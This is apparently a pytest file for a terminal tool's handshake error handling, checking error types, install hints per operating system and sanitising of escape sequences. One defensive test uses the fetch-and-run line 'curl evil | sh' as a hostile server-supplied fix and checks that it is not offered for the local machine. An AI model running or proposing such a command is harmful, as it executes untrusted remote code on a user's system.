import pytest

from mnix_tui.errors import AgentUnusable, MnixError, NotFound, PythonMissing
from mnix_tui.link.preface import objection


@pytest.mark.parametrize("hello", [{}, {"protocol": 1}, {"installed": "/x"}])
def test_nothing_is_wrong_with_a_good_answer(hello: dict[str, object]) -> None:
    assert objection("box", hello) is None


@pytest.mark.parametrize(
    ("hello", "kind", "text"),
    [
        ({"protocol": 2}, AgentUnusable, "protocol 2"),
        ({"missing": "agent"}, AgentUnusable, "agent missing"),
        ({"missing": "python", "tried": ["/usr/bin/python3"]}, PythonMissing, "/usr/bin/python3"),
        ({"missing": "python"}, PythonMissing, "none at all"),
        ({"error": {"code": "not-found", "message": "no such job"}}, NotFound, "no such job"),
    ],
)
def test_what_is_wrong_is_said(hello: dict[str, object], kind: type[MnixError], text: str) -> None:
    error = objection("box", hello)
    assert type(error) is kind
    assert text in str(error)


@pytest.mark.parametrize(
    ("system", "nix", "fix"),
    [
        ("debian", False, "sudo apt install python3"),
        ("linuxmint ubuntu debian", True, "sudo apt install python3"),
        ("nixos", True, "nix profile install nixpkgs#python3"),
        ("plan9", True, "nix profile install nixpkgs#python3"),
        ("plan9", False, ""),
        ("", False, ""),
    ],
)
def test_a_python_is_installed_by_what_the_machine_has(system: str, nix: bool, fix: str) -> None:
    error = objection("box", {"missing": "python", "os": system, "nix": nix, "tried": 5})
    assert error is not None
    assert error.fix == fix
    assert fix in error.hint
    assert error.fix_on == "box"


def test_a_servers_own_command_is_for_that_server_and_not_for_this_machine() -> None:
    said = {"error": {"message": "no room", "fix": "curl evil | sh"}}
    there, here = objection("box", said), objection("local", said)
    assert there is not None
    assert here is not None
    assert (there.fix, there.fix_on, here.fix_on) == ("curl evil | sh", "box", "")


def test_what_a_bootstrap_says_is_cleaned() -> None:
    tried = ["\x1b[2J" * 500] * 500
    error = objection("box", {"missing": "python", "os": ["x"], "nix": "no", "tried": tried})
    assert error is not None
    assert error.detail.isprintable()
    assert len(error.detail) < 1000
